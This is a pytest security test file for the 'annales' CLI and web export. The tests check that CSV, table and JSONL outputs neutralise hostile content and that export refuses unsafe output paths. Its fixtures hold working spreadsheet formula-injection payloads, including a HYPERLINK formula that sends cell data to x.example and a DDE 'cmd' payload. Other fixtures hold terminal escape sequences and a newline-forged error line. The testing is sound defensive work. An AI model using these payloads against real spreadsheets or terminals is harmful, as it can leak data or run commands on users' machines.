"""Outputs that cannot hurt their reader (issue 14), on a real store built here.

- CSV cells starting with ``=``, ``+``, ``-``, ``@`` (from titles, ids, quotes) ran as formulas in a
  spreadsheet: ``annales export``, ``annales events --format csv`` and ``/api/events.csv``;
- ``export --out`` equal to ``--db`` replaced the store with a CSV and exited 0; ``--out`` through
  a symbolic link or onto a FIFO replaced it with a file; a cleanup error could hide the real one;
- a file name holding a newline forged an ``annales: error:`` line, and escape sequences from
  documents reached stderr and tables raw.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from annales.cli import cli
from annales.errors import StoreError
from annales.model import Document
from annales.store import open_store
from annales.store.export import atomic_output
from annales.text import csv_cell, json_text, printable
from annales.web import create_app
from test_web_api import Client
from web_events import event_at

FORMULAS = ('=HYPERLINK("http://x.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3")
ESCAPE = "\x1b]0;pwned\x07\x1b[2J"


def hostile_documents() -> list[Document]:
    return [
        Document(
            id=formula,
            title=formula,
            text=f"{formula} Vladimir Poutine a reçu Recep Tayyip Erdoğan à Sotchi.",
            lang="fr",
        )
        for formula in FORMULAS
    ] + [
        Document(
            id="escape",
            text=f"{ESCAPE}Vladimir Poutine a reçu Recep Tayyip Erdoğan à Sotchi.",
            lang="fr",
        )
    ]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("safety") / "annales.duckdb"
    with open_store(path) as store:
        for document in hostile_documents():
            event = event_at(
                document,
                "CONSULT",
                "a reçu",
                ("RUS", "Vladimir Poutine"),
                ("TUR", "Recep Tayyip Erdoğan"),
                "2018-09-17",
            )
            # The sentence (and so the quote) starts with the hostile text.
            event.quote = event.sentence = document.content[: event.end]
            event.start = 0
            store.save(document, [event])
    return path


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    found = cells(text)
    assert found, text
    for cell in found:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-" or cell[1:].replace(".", "").isdigit(), cell
    for formula in FORMULAS:  # kept, as text
        assert any(cell.startswith("'" + formula) for cell in found), formula


def test_csv_cell_neutralises_formulas_only() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("-") == "-"
    assert csv_cell("Poutine") == "Poutine"


def test_export_csv_neutralises_formula_cells(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    result = CliRunner().invoke(
        cli, ["export", "--db", str(db), "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert_no_formula(out.read_text(encoding="utf-8"))


def test_events_csv_neutralises_formula_cells_and_escapes_controls(db: Path) -> None:
    result = CliRunner().invoke(cli, ["events", "--db", str(db), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_no_formula(result.stdout)
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b]0;pwned" in result.stdout


def test_web_csv_download_neutralises_formula_cells(db: Path) -> None:
    response = Client(create_app(db)).get("/api/events.csv")
    assert response.status_code == 200
    assert_no_formula(response.text)


def test_events_table_and_jsonl_escape_control_characters(db: Path) -> None:
    table = CliRunner().invoke(cli, ["events", "--db", str(db)])
    assert table.exit_code == 0 and "\x1b" not in table.stdout and "\\x1b[2J" in table.stdout
    jsonl = CliRunner().invoke(cli, ["events", "--db", str(db), "--format", "jsonl"])
    assert "\x1b" not in jsonl.stdout
    quotes = [json.loads(line)["event_text"] for line in jsonl.stdout.splitlines()]
    assert any(quote.startswith(ESCAPE) for quote in quotes)  # the data itself is intact


def test_printable_and_json_text_escape_every_control() -> None:
    hostile = "a\nb\r\x1b[31m\x07\x9b\u2028\u202e\tc"
    assert printable(hostile) == "a\\nb\\r\\x1b[31m\\x07\\x9b\\u2028\\u202e\\tc"
    assert printable("« Poutine » à l’Élysée\xa0!") == "« Poutine » à l’Élysée\xa0!"
    text = json_text({"q": hostile})
    assert json.loads(text) == {"q": hostile}
    assert not any(ch in text for ch in "\n\x1b\x07\x9b\u2028\u202e")


def test_export_refuses_the_store_itself_and_leaves_it_whole(db: Path, tmp_path: Path) -> None:
    before = db.read_bytes()
    runner = CliRunner()
    for out in (db, db.parent / "." / db.name):
        result = runner.invoke(
            cli, ["export", "--db", str(db), "--format", "csv", "--out", str(out)]
        )
        assert result.exit_code == 2, result.output
        assert "it is the store's own file" in result.stderr
    assert db.read_bytes() == before
    with open_store(db, read_only=True) as store:
        assert store.stats()["events"] == len(FORMULAS) + 1


def test_export_refuses_links_fifos_and_folders(db: Path, tmp_path: Path) -> None:
    kept = tmp_path / "gardé.csv"
    kept.write_text("à garder\n", encoding="utf-8")
    link = tmp_path / "lien.csv"
    link.symlink_to(kept)
    store_link = tmp_path / "lien-store.duckdb"
    store_link.symlink_to(db)
    fifo = tmp_path / "tube.csv"
    os.mkfifo(fifo)
    runner = CliRunner()
    for out, why in (
        (link, "symbolic link"),
        (store_link, "store's own file"),
        (fifo, "FIFO"),
        (tmp_path, "directory"),
    ):
        result = runner.invoke(cli, ["export", "--db", str(db), "--out", str(out)])
        assert result.exit_code == 2, (out, result.output)
        assert why in result.stderr, result.stderr
    assert link.is_symlink() and kept.read_text(encoding="utf-8") == "à garder\n"
    assert fifo.is_fifo()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_a_failed_cleanup_never_hides_the_error(tmp_path: Path) -> None:
    target = tmp_path / "events.csv"

    class Broken(Exception):
        pass

    with pytest.raises(Broken), atomic_output(target) as partial:
        # What cannot be removed with unlink: the temporary name became a non-empty folder.
        partial.mkdir()
        (partial / "x").write_text("x")
        raise Broken
    assert not target.exists()
    with pytest.raises(StoreError, match="cannot write"), atomic_output(target) as partial:
        partial.mkdir()
        (partial / "x").write_text("x")  # os.replace of a folder over nothing: it is renamed...
        target.mkdir()  # ...unless the target became a folder with files meanwhile
        (target / "y").write_text("y")


def test_a_file_name_with_a_newline_cannot_forge_an_error_line(tmp_path: Path) -> None:
    folder = tmp_path / "entrée"
    folder.mkdir()
    (folder / "bon.txt").write_text(
        "Vladimir Poutine a reçu Recep Tayyip Erdoğan.", encoding="utf-8"
    )
    forged = "x.txt\nannales: error: forged\x1b[2J"
    (folder / f"{forged}.txt").write_bytes(b"")
    (folder / "escape.jsonl").write_text(
        json.dumps({"id": ESCAPE, "text": "The German chancellor met the French president."})
        + "\n",
        encoding="utf-8",
    )
    result = CliRunner().invoke(
        cli, ["code", str(folder), "--db", str(tmp_path / "s.duckdb"), "--quiet"]
    )
    assert result.exit_code == 1, result.output
    lines = result.stderr.splitlines()
    assert not [line for line in lines if line.startswith("annales: error:")], lines
    assert all(line.startswith("annales: ") for line in lines), lines
    assert "x.txt\\nannales: error: forged\\x1b[2J.txt: empty file" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
